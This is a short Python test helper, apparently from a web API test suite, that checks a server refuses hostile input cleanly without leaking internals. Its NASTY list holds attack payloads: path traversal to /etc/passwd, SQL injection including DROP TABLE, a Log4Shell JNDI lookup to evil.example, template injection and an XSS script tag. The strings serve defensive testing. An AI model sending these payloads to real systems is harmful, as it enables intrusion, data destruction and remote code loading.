"""What a clean refusal of hostile input looks like, and the hostile strings themselves."""

import httpx

LONG = "x" * 10_000
NASTY = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.png",
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)--",
    "%00",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    LONG,
]


def assert_clean_refusal(response: httpx.Response, *allowed: int) -> None:
    """The answer is one of `allowed` (always named: "anything but a 5xx" proves too little),
    in the one error shape, and leaks no internals."""
    assert allowed, "name the status codes this input may get"
    assert response.status_code in allowed, (response.status_code, response.text[:500])
    if response.status_code >= 400 and response.content:
        body = response.json()
        assert body["error"]["code"] and body["error"]["message"], body
    for marker in ("Traceback", "psycopg", "sqlalchemy", 'File "/'):
        assert marker not in response.text, response.text[:500]
